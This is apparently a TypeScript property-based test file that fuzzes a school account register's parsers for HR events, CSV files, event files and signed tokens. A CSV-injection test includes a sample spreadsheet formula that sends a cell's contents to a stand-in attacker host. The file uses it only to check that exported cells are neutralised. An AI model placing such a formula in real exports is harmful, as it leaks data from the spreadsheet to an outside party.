/**
 * Property-based tests of every parser that reads input from outside: HR events, register CSV files, PutEvents
 * files, action tokens and webhook signatures. Each is fed random and malformed input and must never throw,
 * must reject clearly (a non-empty reason, a line number), and must accept only what the contract allows.
 * The same inputs through the real handlers, checking that nothing is written, are in
 * test/integration/bad-input.test.ts.
 */
import { createHmac } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  AccountActivityDetail,
  describeIssues,
  HR_DETAIL_TYPES,
  HrEvent,
  HrWebhookBody,
  parsePutEventFile,
} from '../../events/schemas.ts';
import { parse as parseCsvText } from 'csv-parse/sync';
import { PLATFORMS, MONITORING_FREQUENCIES, accountId, cleanHandle, isEmail, type AccountFields } from '../../functions/domain/model.ts';
import { parseRegisterCsv, REGISTER_COLUMNS, registerToCsv, type ParseResult } from '../../functions/domain/register-csv.ts';
import { SIGNATURE_TOLERANCE_SECONDS, signBody, verifySignature } from '../../functions/domain/signature.ts';
import { signToken, verifyToken } from '../../functions/domain/tokens.ts';
const RECIPIENT = 'recipient@oakfield.sch.uk';
const link = (taskId: string, recipient = RECIPIENT, generation = 1) => ({ taskId, recipient, generation });

const RUNS = { numRuns: 300 };

// ---------------------------------------------------------------------------------------------
// Independent oracles (deliberately not the production helpers)
// ---------------------------------------------------------------------------------------------

/** A real calendar date in `YYYY-MM-DD` form, checked by arithmetic rather than by `Date`. */
function isRealIsoDate(value: unknown): boolean {
  if (typeof value !== 'string') return false;
  const m = /^(\d{4})-(\d{2})-(\d{2})$/.exec(value);
  if (!m) return false;
  const [y, mo, d] = [Number(m[1]), Number(m[2]), Number(m[3])];
  const leap = (y % 4 === 0 && y % 100 !== 0) || y % 400 === 0;
  const days = [31, leap ? 29 : 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31];
  return mo >= 1 && mo <= 12 && d >= 1 && d <= days[mo - 1]!;
}

/** What an accepted email must look like: trimmed, lower case, exactly one `@`, no whitespace, within 254. */
function isCleanEmail(value: unknown): boolean {
  if (typeof value !== 'string') return false;
  return value.length <= 254
    && value === value.trim()
    && value === value.toLowerCase()
    && value.split('@').length === 2
    && !/\s/.test(value)
    && /^[^@]+@[^@]+\.[^@]+$/.test(value);
}

const CONTROL_CHARS = /[\u0000-\u001f\u007f-\u009f]/;

/** Lines in a text the way the CSV contract counts them: CRLF, LF or a lone CR each end one. */
function physicalLines(buf: Buffer): number {
  let n = 1;
  for (let i = 0; i < buf.length; i++) {
    if (buf[i] === 0x0a) n++;
    else if (buf[i] === 0x0d) {
      n++;
      if (buf[i + 1] === 0x0a) i++;
    }
  }
  return n;
}

/** Calls `fn`; a throw becomes a failed expectation that names the input, never a test error without it. */
function noThrow<T>(fn: () => T, input: unknown): T {
  try {
    return fn();
  } catch (err) {
    throw new Error(`threw ${(err as Error)?.stack ?? String(err)} on input ${JSON.stringify(input)?.slice(0, 500)}`);
  }
}

/** A rejection reason people can read: non-empty, one line, and not a flood of echoed input. */
function expectClearReason(reason: unknown): void {
  expect(typeof reason).toBe('string');
  expect((reason as string).trim()).not.toBe('');
  expect(reason as string).not.toMatch(/\n\s+at /); // no stack trace
}

// ---------------------------------------------------------------------------------------------
// Generators
// ---------------------------------------------------------------------------------------------

/** Strings of every awkward kind: control characters, astral unicode, whitespace, huge. */
const nastyString: fc.Arbitrary<string> = fc.oneof(
  fc.string(),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'binary-ascii', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom('', ' ', '\t', '\n', '\u0000', '\u200b', '\ufeff', '\u202e', 'null', 'undefined', '[object Object]', '__proto__', 'constructor'),
  fc.tuple(fc.constantFrom('a', 'x', '€', '\u0000', ' '), fc.integer({ min: 255, max: 70_000 })).map(([c, n]) => c.repeat(n)),
);

/** Almost-addresses: real ones bent by case, whitespace, control characters, extra or missing @, length. */
const emailish: fc.Arbitrary<string> = fc.oneof(
  fc.emailAddress(),
  fc.emailAddress().map((e) => e.toUpperCase()),
  fc.tuple(fc.emailAddress(), nastyString, fc.nat()).map(([e, junk, i]) => {
    const at = i % (e.length + 1);
    return e.slice(0, at) + junk + e.slice(at);
  }),
  fc.tuple(fc.emailAddress(), fc.constantFrom('@', '@@', ' ', '\u0000', '\r\n', ',', ';', '<', '"', '.')).map(([e, c]) => e.replace('@', c)),
  fc.tuple(fc.emailAddress(), fc.constantFrom(' ', '\t', '\u00a0', '\u3000')).map(([e, s]) => `${s}${e}${s}`),
  fc.tuple(fc.emailAddress(), fc.integer({ min: 200, max: 400 })).map(([e, n]) => `${'a'.repeat(n)}${e}`),
  fc.tuple(fc.string({ unit: 'grapheme', minLength: 1, maxLength: 8 }), fc.string({ unit: 'grapheme', minLength: 1, maxLength: 8 })).map(([a, b]) => `${a}@${b}.uk`),
);

/** Almost-dates: impossible days and months, other orders, suffixes, timestamps. */
const dateish: fc.Arbitrary<string> = fc.oneof(
  fc.tuple(fc.integer({ min: 0, max: 9999 }), fc.integer({ min: 0, max: 13 }), fc.integer({ min: 0, max: 32 }))
    .map(([y, m, d]) => `${String(y).padStart(4, '0')}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}`),
  fc.tuple(fc.integer({ min: 0, max: 33 }), fc.integer({ min: 0, max: 13 }), fc.integer({ min: 0, max: 9999 })).map(([d, m, y]) => `${d}/${m}/${y}`),
  fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
  fc.date({ noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
  fc.tuple(fc.date({ min: new Date('2000-01-01'), max: new Date('2099-12-31'), noInvalidDate: true }), nastyString).map(([d, s]) => d.toISOString().slice(0, 10) + s),
  fc.tuple(nastyString, fc.date({ min: new Date('2000-01-01'), max: new Date('2099-12-31'), noInvalidDate: true })).map(([s, d]) => s + d.toISOString().slice(0, 10)),
  fc.tuple(fc.date({ min: new Date('2000-01-01'), max: new Date('2099-12-31'), noInvalidDate: true }), fc.constantFrom('T', 'T00:00', 'T25:99', 'T12:00:00+0100'), fc.oneof(fc.constant(''), nastyString))
    .map(([d, t, s]) => d.toISOString().slice(0, 10) + t + s),
  fc.constantFrom('2027-02-29', '2028-02-29', '2100-02-29', '2000-02-29', '2027-1-5', '27-01-05', '2027/01/05', '2027-01-05T', '2027-01-05 ', ' 2027-01-05', '２０２７-01-05', '٢٠٢٧-٠١-٠٥'),
);

/** A value for a field: usually a string of the kind the field wants, sometimes any JSON at all. */
const fieldValue = (kind: fc.Arbitrary<string>): fc.Arbitrary<unknown> =>
  fc.oneof({ weight: 6, arbitrary: kind }, { weight: 1, arbitrary: nastyString }, { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) });

const hrDetail: fc.Arbitrary<Record<string, unknown>> = fc.record(
  {
    email: fieldValue(emailish),
    leaveDate: fieldValue(dateish),
    startDate: fieldValue(dateish),
    employeeId: fieldValue(nastyString),
    displayName: fieldValue(nastyString),
    school: fieldValue(nastyString),
    lineManagerEmail: fieldValue(emailish),
    reason: fieldValue(nastyString),
    jobTitle: fieldValue(nastyString),
  },
  { requiredKeys: [] },
);

const hrShaped: fc.Arbitrary<unknown> = fc.record(
  {
    detailType: fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...HR_DETAIL_TYPES) }, fc.constantFrom('staff leaver', 'Staff Leaver ', 'Account Activity', ''), fc.jsonValue({ maxDepth: 1 })),
    detail: fc.oneof({ weight: 8, arbitrary: hrDetail }, fc.jsonValue({ maxDepth: 2 })),
  },
  { requiredKeys: [] },
);

// ---------------------------------------------------------------------------------------------
// HR events
// ---------------------------------------------------------------------------------------------

/** The raw date texts the contract accepts: `YYYY-MM-DD`, UK `DD/MM/YYYY`, or an ISO timestamp (its date kept). */
function isDateShaped(raw: string): boolean {
  const v = raw.trim();
  if (/^\d{4}-\d{2}-\d{2}$/.test(v) || /^\d{1,2}\/\d{1,2}\/\d{4}$/.test(v)) return true;
  return /^\d{4}-\d{2}-\d{2}T([01]\d|2[0-3]):[0-5]\d(:[0-5]\d(\.\d+)?)?(Z|[+-]([01]\d|2[0-3]):?[0-5]\d)?$/.test(v);
}

function checkAcceptedEmail(raw: unknown, accepted: unknown): void {
  expect(isCleanEmail(accepted), `accepted email ${JSON.stringify(accepted)}`).toBe(true);
  expect(typeof raw).toBe('string');
  expect(accepted).toBe((raw as string).trim().toLowerCase());
  expect(accepted).not.toMatch(CONTROL_CHARS);
}

function checkHrEvent(input: unknown): void {
  const result = noThrow(() => HrEvent.safeParse(input), input);
  if (!result.success) {
    const reason = noThrow(() => describeIssues(result.error), input);
    expectClearReason(reason);
    expect(result.error.issues.length).toBeGreaterThan(0);
    return;
  }
  const raw = (input as { detail: Record<string, unknown> }).detail;
  const e = result.data;
  expect(HR_DETAIL_TYPES).toContain(e.detailType);
  checkAcceptedEmail(raw.email, e.detail.email);
  if ('lineManagerEmail' in e.detail && e.detail.lineManagerEmail !== undefined) checkAcceptedEmail(raw.lineManagerEmail, e.detail.lineManagerEmail);
  if (e.detailType === 'Staff Leaver') {
    expect(isRealIsoDate(e.detail.leaveDate), `accepted leaveDate ${JSON.stringify(e.detail.leaveDate)} from ${JSON.stringify(raw.leaveDate)}`).toBe(true);
    expect(isDateShaped(raw.leaveDate as string), `accepted raw leaveDate ${JSON.stringify(raw.leaveDate)}`).toBe(true);
  }
  if (e.detailType === 'Staff Joiner') {
    expect(isRealIsoDate(e.detail.startDate), `accepted startDate ${JSON.stringify(e.detail.startDate)}`).toBe(true);
    expect(isDateShaped(raw.startDate as string), `accepted raw startDate ${JSON.stringify(raw.startDate)}`).toBe(true);
  }
  for (const k of ['employeeId', 'displayName', 'school', 'jobTitle'] as const) {
    const v = (e.detail as Record<string, unknown>)[k];
    if (v !== undefined) expect(typeof v === 'string' && v.length <= 256 && v === v.trim()).toBe(true);
  }
}

describe('HrEvent over random and malformed input', () => {
  it('any JSON value: never throws, rejects with a reason', () => {
    fc.assert(fc.property(fc.jsonValue(), checkHrEvent), RUNS);
  });

  it('any JSON with unicode strings and odd keys: never throws, rejects with a reason', () => {
    fc.assert(fc.property(fc.jsonValue({ stringUnit: 'binary', maxDepth: 3 }), checkHrEvent), RUNS);
  });

  it('events with the right keys and wrong types, lengths, unicode and control characters', () => {
    fc.assert(fc.property(hrShaped, checkHrEvent), { numRuns: 500 });
  });

  it('HR-shaped events built from real addresses and dates are accepted exactly when email and dates are valid', () => {
    // Inputs close to valid, so the success branch is exercised as often as the failure branch. Each field is
    // tagged "good" when it comes from a generator of values the contract must accept.
    const realDate = fc.date({ min: new Date('1900-01-01'), max: new Date('2999-12-31'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
    const tagged = (good: fc.Arbitrary<string>, bad: fc.Arbitrary<string>) =>
      fc.oneof(good.map((v) => ({ v, good: true })), bad.map((v) => ({ v, good: false })));
    const goodEmail = fc.emailAddress().filter((e) => e.length <= 254);
    const close = fc.record({
      detailType: fc.constantFrom(...HR_DETAIL_TYPES),
      email: tagged(fc.oneof(goodEmail, goodEmail.map((e) => ` ${e.toUpperCase()}\t`)), emailish),
      leaveDate: tagged(fc.oneof(realDate, realDate.map((d) => `${d.slice(8)}/${d.slice(5, 7)}/${d.slice(0, 4)}`)), dateish),
      startDate: tagged(realDate, dateish),
    });
    let accepted = 0;
    fc.assert(fc.property(close, ({ detailType, email, leaveDate, startDate }) => {
      const input = { detailType, detail: { email: email.v, leaveDate: leaveDate.v, startDate: startDate.v } };
      checkHrEvent(input);
      const ok = HrEvent.safeParse(input).success;
      if (ok) accepted++;
      const mustAccept = email.good && (detailType !== 'Staff Leaver' || leaveDate.good) && (detailType !== 'Staff Joiner' || startDate.good);
      if (mustAccept) expect(ok, JSON.stringify(input)).toBe(true);
    }), { numRuns: 500 });
    expect(accepted).toBeGreaterThan(100); // the success branch was really tested (typically ~300 of 500)
  });

  it('the webhook envelope and Account Activity details never throw on any JSON', () => {
    fc.assert(fc.property(fc.oneof(fc.jsonValue(), hrShaped), (input) => {
      const envelope = noThrow(() => HrWebhookBody.safeParse(input), input);
      if (!envelope.success) expectClearReason(describeIssues(envelope.error));
      else expect(HR_DETAIL_TYPES).toContain(envelope.data.detailType);
    }), RUNS);
    const activity = fc.oneof(
      fc.jsonValue(),
      fc.record({ platform: fieldValue(fc.constantFrom(...PLATFORMS, 'Twitter', ' x ', '')), handle: fieldValue(nastyString), at: fieldValue(dateish) }, { requiredKeys: [] }),
    );
    fc.assert(fc.property(activity, (input) => {
      const r = noThrow(() => AccountActivityDetail.safeParse(input), input);
      if (!r.success) {
        expectClearReason(describeIssues(r.error));
        return;
      }
      expect(r.data.platform.trim()).toBe(r.data.platform);
      expect(r.data.platform.length).toBeGreaterThan(0);
      expect(r.data.handle.length).toBeGreaterThan(0);
      if (r.data.at !== undefined) expect(Number.isNaN(Date.parse(r.data.at))).toBe(false);
    }), RUNS);
  });
});

// ---------------------------------------------------------------------------------------------
// Register CSV
// ---------------------------------------------------------------------------------------------

const CSV_INTERNAL_ERROR = 'the file could not be read as CSV';


function checkCsv(input: string | Buffer): ParseResult {
  const result = noThrow(() => parseRegisterCsv(input), typeof input === 'string' ? input : input.toString('base64'));
  const buf = Buffer.isBuffer(input) ? input : Buffer.from(input, 'utf8');
  const lines = physicalLines(buf);
  const firstDataLine = 2;
  if (!result.ok) {
    expect(result.errors.length).toBeGreaterThan(0);
    for (const e of result.errors) {
      expect(Number.isInteger(e.line) && e.line >= 1, `line ${e.line}`).toBe(true);
      expect(e.line, `line ${e.line} of a ${lines}-line file`).toBeLessThanOrEqual(lines);
      expectClearReason(e.reason);
      // The parser's last-resort catch turns an internal exception into this reason; it must never be needed.
      expect(e.reason.startsWith(CSV_INTERNAL_ERROR), e.reason).toBe(false);
    }
    return result;
  }
  for (const row of result.rows) {
    expect(PLATFORMS).toContain(row.platform);
    expect(row.handle.length).toBeGreaterThan(0);
    expect(row.handle).toBe(row.handle.trim());
    expect(row.handle.startsWith('@')).toBe(false);
    expect(row.school.trim()).not.toBe('');
    for (const e of [row.linkedEmail, row.mainSupervisor, ...row.admins, ...(row.reserveSupervisor ? [row.reserveSupervisor] : [])]) {
      expect(isCleanEmail(e), `row email ${JSON.stringify(e)}`).toBe(true);
      expect(isEmail(e)).toBe(true);
    }
    expect(row.admins.length).toBeGreaterThan(0);
    expect(new Set(row.admins).size).toBe(row.admins.length);
    expect(MONITORING_FREQUENCIES).toContain(row.monitoringFrequency);
    for (const d of [row.plannedEndDate, row.nextReviewDate, row.lastActivityDate]) if (d !== undefined) expect(isRealIsoDate(d), `date ${d}`).toBe(true);
    expect(Number.isInteger(row.line) && row.line >= firstDataLine && row.line <= lines, `row line ${row.line} of ${lines}`).toBe(true);
  }
  const rowLines = result.rows.map((r) => r.line);
  expect(rowLines).toEqual([...rowLines].sort((a, b) => a - b));
  const ids = result.rows.map((r) => `${r.platform}:${r.handle.toLowerCase()}`);
  expect(new Set(ids).size).toBe(ids.length);
  return result;
}

/** Quotes a field as RFC 4180 does; sometimes wrongly, on purpose. */
const quoteField = (value: string, how: 'none' | 'proper' | 'broken'): string =>
  how === 'none' ? value : how === 'proper' ? `"${value.replaceAll('"', '""')}"` : `"${value}`;

const validFieldFor: Record<string, fc.Arbitrary<string>> = {
  platform: fc.constantFrom(...PLATFORMS, 'Twitter', 'FACEBOOK', ' instagram '),
  handle: fc.oneof(fc.stringMatching(/^@?[A-Za-z0-9_.-]{1,20}$/), fc.string({ unit: 'grapheme', minLength: 1, maxLength: 10 })),
  school: fc.constantFrom('oakfield', 'riverside', 'hillcrest'),
  linked_email: fc.emailAddress(),
  admins: fc.array(fc.emailAddress(), { minLength: 1, maxLength: 3 }).map((a) => a.join(';')),
  main_supervisor: fc.emailAddress(),
  reserve_supervisor: fc.oneof(fc.constant(''), fc.emailAddress()),
  monitoring_frequency: fc.constantFrom('', ...MONITORING_FREQUENCIES, 'Weekly'),
  planned_end_date: fc.oneof(fc.constant(''), dateish),
  next_review_date: fc.oneof(fc.constant(''), dateish),
  last_activity_date: fc.oneof(fc.constant(''), dateish),
};

const junkField: fc.Arbitrary<string> = fc.oneof(
  nastyString.map((s) => s.slice(0, 300)),
  emailish.map((s) => s.slice(0, 300)),
  dateish,
  fc.constantFrom('"', '""', '"a"b', 'a"b', ',', ';', '\r', '\n', '\r\n', 'a\nb', '\ufeffplatform', 'platform;handle;school', '\t'),
);

function fieldFor(column: string): fc.Arbitrary<string> {
  const valid = validFieldFor[column] ?? fc.string({ maxLength: 20 });
  return fc.oneof({ weight: 8, arbitrary: valid }, { weight: 1, arbitrary: junkField });
}

const REQUIRED = ['platform', 'handle', 'school', 'linked_email', 'admins', 'main_supervisor'];

/** Register-like CSV text: a header from real and junk column names, rows of mostly plausible values. */
const csvish: fc.Arbitrary<string> = fc
  .tuple(
    fc.oneof(
      fc.shuffledSubarray(REGISTER_COLUMNS.filter((c) => !REQUIRED.includes(c))).chain((optional) => fc.shuffledSubarray([...REQUIRED, ...optional], { minLength: REQUIRED.length + optional.length })),
      fc.shuffledSubarray([...REGISTER_COLUMNS], { minLength: 0 }),
    ),
    fc.array(fc.constantFrom('notes', 'PLATFORM', 'Handle ', 'handle', ''), { maxLength: 2 }),
    fc.constantFrom('\n', '\r\n', '\r'),
    fc.boolean(),
  )
  .chain(([columns, extra, eol, bom]) => {
    const header = [...columns, ...extra];
    const cell = (c: string, valid: boolean) => fc.tuple(valid ? (validFieldFor[c] ?? fc.stringMatching(/^[a-z ]{0,10}$/)) : fieldFor(c), fc.constantFrom('none', 'none', 'proper', 'broken'))
      .map(([v, how]) => quoteField(v, valid ? (how === 'broken' || /[",\r\n]/.test(v) ? 'proper' : how) : how as 'none' | 'proper' | 'broken'));
    const row = (valid: boolean) => fc.tuple(...header.map((c) => cell(c.trim().toLowerCase(), valid))).map((cells) => cells.join(','));
    const rows = fc.array(fc.oneof({ weight: 6, arbitrary: row(true) }, { weight: 3, arbitrary: row(false) }, { weight: 1, arbitrary: fc.constantFrom('', ',,,', ' ') }), { maxLength: 5 });
    return fc.tuple(rows, fc.boolean()).map(([rs, trailing]) => `${bom ? '\ufeff' : ''}${[header.join(','), ...rs].join(eol)}${trailing ? eol : ''}`);
  });

describe('parseRegisterCsv over random and malformed input', () => {
  it('any string: never throws; errors have a line and a reason', () => {
    fc.assert(fc.property(fc.oneof(fc.string({ maxLength: 400 }), fc.string({ unit: 'binary', maxLength: 400 })), (text) => {
      checkCsv(text);
    }), RUNS);
  });

  it('any bytes: never throws; errors have a line and a reason', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 600 }), (bytes) => {
      checkCsv(Buffer.from(bytes));
    }), RUNS);
  });

  it('register-like CSV with random rows, quotes, line breaks and junk: never throws; accepted rows are valid', () => {
    let accepted = 0;
    fc.assert(fc.property(csvish, (text) => {
      if (checkCsv(text).ok) accepted++;
      // A string and its UTF-8 bytes are the same file.
      expect(parseRegisterCsv(Buffer.from(text, 'utf8'))).toEqual(parseRegisterCsv(text));
    }), { numRuns: 300 });
    expect(accepted).toBeGreaterThan(10); // the success branch was really tested (typically ~30 of 300)
  });

  it('valid rows with any line endings: each accepted row, and each error, is on the physical line its record starts', () => {
    const eol = fc.constantFrom('\n', '\r\n', '\r');
    const file = fc.record({
      rows: fc.uniqueArray(fc.stringMatching(/^[a-z][a-z0-9_]{0,11}$/), { minLength: 1, maxLength: 6 }),
      blank: fc.array(fc.boolean(), { minLength: 7, maxLength: 7 }),
      eols: fc.array(eol, { minLength: 8, maxLength: 8 }),
      quoted: fc.boolean(),
    });
    const tail = 'oakfield,office@oakfield.sch.uk,a@oakfield.sch.uk;b@oakfield.sch.uk,c@oakfield.sch.uk';
    fc.assert(fc.property(file, ({ rows, blank, eols, quoted }) => {
      const lines: string[] = ['platform,handle,school,linked_email,admins,main_supervisor'];
      const expected: number[] = [];
      rows.forEach((h, i) => {
        if (blank[i]) lines.push('');
        lines.push(`instagram,${quoted ? `"${h}"` : h},${tail}`);
        expected.push(lines.length);
      });
      // A lone CR ending a line, then an empty line ending in LF, is the bytes CR LF: one line break, not two.
      fc.pre(!lines.some((l, i) => eols[i % eols.length] === '\r' && lines[i + 1] === '' && eols[(i + 1) % eols.length]!.startsWith('\n')));
      const text = lines.map((l, i) => l + eols[i % eols.length]).join('');
      const result = checkCsv(text);
      if (result.ok) expect(result.rows.map((r) => r.line), JSON.stringify(text)).toEqual(expected);
      else for (const e of result.errors) expect(expected, `${JSON.stringify(text)}: ${e.line}: ${e.reason}`).toContain(e.line);
    }), RUNS);
  });

  it('a valid file with one byte changed, inserted or removed: never throws', () => {
    const valid = 'platform,handle,school,linked_email,admins,main_supervisor,planned_end_date\n'
      + 'instagram,"oakfield_pe",oakfield,r.hughes@oakfield.sch.uk,a@oakfield.sch.uk;b@oakfield.sch.uk,c@oakfield.sch.uk,2027-07-31\r\n'
      + 'x,@Sport,riverside,"x@riverside.sch.uk","a@riverside.sch.uk",b@riverside.sch.uk,\n';
    expect(parseRegisterCsv(valid).ok).toBe(true);
    const bytes = Buffer.from(valid);
    fc.assert(fc.property(fc.nat({ max: bytes.length }), fc.integer({ min: 0, max: 255 }), fc.constantFrom('flip', 'insert', 'delete'), (at, byte, op) => {
      const b = Array.from(bytes);
      if (op === 'flip') b[Math.min(at, b.length - 1)] = byte;
      else if (op === 'insert') b.splice(at, 0, byte);
      else b.splice(at, 1);
      checkCsv(Buffer.from(b));
    }), { numRuns: 400 });
  });
});

// ---------------------------------------------------------------------------------------------
// Register export → import, with values a spreadsheet would read as formulas
// ---------------------------------------------------------------------------------------------

/** What starts a formula in a spreadsheet, after any `'`s (contracts section 4), and the `'`s themselves. */
const formulaStart = fc.constantFrom('=', '+', '-', '@', "'", "'=", "''+", "'-", "'@", "'''=", '');
const formulaText: fc.Arbitrary<string> = fc.oneof(
  fc.tuple(formulaStart, fc.stringMatching(/^[A-Za-z0-9 ()"&,.;:!?/'=+@-]{0,24}$/)).map(([p, rest]) => `${p}${rest}`.trim()),
  fc.constantFrom('=HYPERLINK("x")', '=HYPERLINK("https://evil.example/?"&A1,"click")', '+44 7700 900123', '-1', '@SUM(1+1)', "'=1+1", "'", "''", '-', 'news\nand "events", =1'),
).filter((v) => v !== '');
const formulaEmail = fc.tuple(fc.constantFrom('=', '+', '-', "'", "'=", "'-", ''), fc.emailAddress())
  .map(([p, e]) => `${p}${e}`.toLowerCase())
  .filter((e) => isEmail(e) && e === e.trim());
const formulaHandle = fc.tuple(formulaStart, fc.stringMatching(/^[A-Za-z0-9_.=+-]{1,15}$/))
  .map(([p, h]) => `${p}${h}`)
  .filter((h) => h !== '' && cleanHandle(h) === h);
const isoDay = fc.date({ min: new Date('2000-01-01'), max: new Date('2099-12-31'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));

const exportableRow: fc.Arbitrary<AccountFields> = fc.record({
  platform: fc.constantFrom(...PLATFORMS),
  handle: formulaHandle,
  school: formulaText.filter((v) => !v.includes('\n')),
  linkedEmail: formulaEmail,
  admins: fc.uniqueArray(formulaEmail, { minLength: 1, maxLength: 3 }),
  mainSupervisor: formulaEmail,
  monitoringFrequency: fc.constantFrom(...MONITORING_FREQUENCIES),
  url: fc.option(formulaText.filter((v) => !v.includes('\n')), { nil: undefined }),
  reserveSupervisor: fc.option(formulaEmail, { nil: undefined }),
  purpose: fc.option(formulaText, { nil: undefined }),
  audience: fc.option(formulaText, { nil: undefined }),
  publishedName: fc.option(formulaText.filter((v) => !v.includes('\n')), { nil: undefined }),
  plannedEndDate: fc.option(isoDay, { nil: undefined }),
  nextReviewDate: fc.option(isoDay, { nil: undefined }),
  lastActivityDate: fc.option(isoDay, { nil: undefined }),
}).map((r) => Object.fromEntries(Object.entries(r).filter(([, v]) => v !== undefined)) as unknown as AccountFields);

describe('registerToCsv then parseRegisterCsv, with formula-like values', () => {
  it('is a no-op, and no exported cell starts a formula', () => {
    const rows = fc.uniqueArray(exportableRow, { minLength: 1, maxLength: 5, selector: (r) => accountId(r.platform, r.handle) });
    fc.assert(fc.property(rows, (given) => {
      const out = registerToCsv(given);
      // Each cell as a spreadsheet receives it: none may start with a formula character.
      const cells = (parseCsvText(out) as string[][]).slice(1).flat();
      for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
      const back = parseRegisterCsv(out);
      expect(back.ok, JSON.stringify(back)).toBe(true);
      if (back.ok) expect(back.rows.map(({ line: _line, ...fields }) => fields)).toEqual(given);
    }), RUNS);
  });
});

// ---------------------------------------------------------------------------------------------
// PutEvents files (custodian events send)
// ---------------------------------------------------------------------------------------------

const putEntryFields = {
  Source: fc.oneof({ weight: 4, arbitrary: fc.constantFrom('hr', 'custodian', 'trust.ticketing') }, fc.constantFrom(''), nastyString, fc.jsonValue({ maxDepth: 1 })),
  DetailType: fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...HR_DETAIL_TYPES, 'Account Activity') }, fc.constantFrom(''), nastyString, fc.jsonValue({ maxDepth: 1 })),
  Detail: fc.oneof({ weight: 2, arbitrary: fc.json() }, { weight: 2, arbitrary: hrDetail }, fc.jsonValue({ maxDepth: 2 })),
};
/** PutEvents entries: all keys present (often valid), or any of them missing. */
const putEntryish = fc.oneof(fc.record(putEntryFields), fc.record(putEntryFields, { requiredKeys: [] }));

describe('parsePutEventFile over random input', () => {
  it('never throws; gives a reason on failure and well-formed entries on success', () => {
    const input = fc.oneof(
      fc.jsonValue(),
      { weight: 3, arbitrary: putEntryish },
      { weight: 2, arbitrary: fc.array(putEntryish, { maxLength: 3 }) },
      fc.array(fc.oneof(putEntryish, fc.jsonValue({ maxDepth: 1 })), { maxLength: 3 }),
    );
    let accepted = 0;
    fc.assert(fc.property(input, (raw) => {
      const r = noThrow(() => parsePutEventFile(raw), raw);
      if (!r.ok) {
        expectClearReason(r.reason);
        return;
      }
      accepted++;
      expect(r.entries.length).toBeGreaterThan(0);
      for (const e of r.entries) {
        expect(typeof e.Source === 'string' && e.Source.length >= 1 && e.Source.length <= 256).toBe(true);
        expect(typeof e.DetailType === 'string' && e.DetailType.length >= 1 && e.DetailType.length <= 128).toBe(true);
        expect(typeof e.Detail === 'string' || (typeof e.Detail === 'object' && e.Detail !== null && !Array.isArray(e.Detail))).toBe(true);
      }
    }), { numRuns: 400 });
    expect(accepted).toBeGreaterThan(30); // the success branch was really tested (typically ~70 of 400)
  });
});

// ---------------------------------------------------------------------------------------------
// Action tokens
// ---------------------------------------------------------------------------------------------

const SECRET = 'link-secret-for-property-tests';
const NOW = 1_800_000_000;
const TOKEN_RE = /^[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+$/;
const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

const genuineToken = fc.record({
  taskId: fc.oneof(fc.stringMatching(/^[A-Za-z0-9]{16,26}$/), fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 })),
  ttl: fc.integer({ min: 1, max: 60 * 86_400 }),
  nonce: fc.stringMatching(/^[A-Za-z0-9_-]{16}$/),
}).map(({ taskId, ttl, nonce }) => ({ taskId, exp: NOW + ttl, nonce, token: signToken(SECRET, link(taskId), NOW + ttl, nonce) }));

/** A one-character edit of a string: replace, insert or delete, with characters from the alphabet and outside it. */
const edit = fc.record({
  op: fc.constantFrom('replace', 'insert', 'delete'),
  at: fc.nat(),
  char: fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...B64URL) }, fc.constantFrom('.', '=', '+', '/', ' ', '%', '\u0000', 'é', '\n')),
});
function applyEdit(s: string, e: { op: string; at: number; char: string }): string {
  const i = e.at % (s.length + (e.op === 'insert' ? 1 : 0));
  if (e.op === 'replace') return s.slice(0, i) + e.char + s.slice(i + 1);
  if (e.op === 'insert') return s.slice(0, i) + e.char + s.slice(i);
  return s.slice(0, i) + s.slice(i + 1);
}

describe('verifyToken over random and tampered tokens', () => {
  it('any string (or none): never throws, never verifies', () => {
    const anyToken = fc.oneof(
      fc.string({ maxLength: 600 }),
      fc.string({ unit: 'binary', maxLength: 100 }),
      fc.tuple(fc.stringMatching(/^[A-Za-z0-9_-]{1,200}$/), fc.stringMatching(/^[A-Za-z0-9_-]{1,60}$/)).map(([a, b]) => `${a}.${b}`),
      fc.constantFrom(undefined, '', '.', 'a.', '.a', 'a..b', 'a.b.c', `${'a'.repeat(600)}.b`),
    );
    fc.assert(fc.property(anyToken, (token) => {
      const r = noThrow(() => verifyToken(SECRET, token, NOW), token);
      expect(r.ok).toBe(false);
      if (!r.ok) expect(['malformed', 'forged', 'expired']).toContain(r.reason);
    }), { numRuns: 400 });
  });

  it('a genuine token verifies; one edited anywhere verifies only if its payload is unchanged and its MAC decodes to the same bytes', () => {
    fc.assert(fc.property(genuineToken, edit, (g, e) => {
      expect(verifyToken(SECRET, g.token, NOW)).toEqual({ ok: true, payload: { t: g.taskId, r: RECIPIENT, g: 1, e: g.exp, n: g.nonce } });
      const mutated = applyEdit(g.token, e);
      const r = noThrow(() => verifyToken(SECRET, mutated, NOW), mutated);
      const [payload, mac] = g.token.split('.') as [string, string];
      const [mPayload, mMac, ...rest] = mutated.split('.');
      // base64url of a 32-byte MAC is 43 characters whose last carries 2 unused bits: four last characters decode
      // to the same bytes, so a last-character edit can be harmless. Anything else must fail.
      const sameBytes = TOKEN_RE.test(mutated) && rest.length === 0 && mPayload === payload
        && Buffer.from(mMac ?? '', 'base64url').equals(Buffer.from(mac, 'base64url'));
      expect(r.ok, `edited token ${mutated} (from ${g.token})`).toBe(sameBytes);
      if (r.ok) {
        expect(r.payload).toEqual({ t: g.taskId, r: RECIPIENT, g: 1, e: g.exp, n: g.nonce });
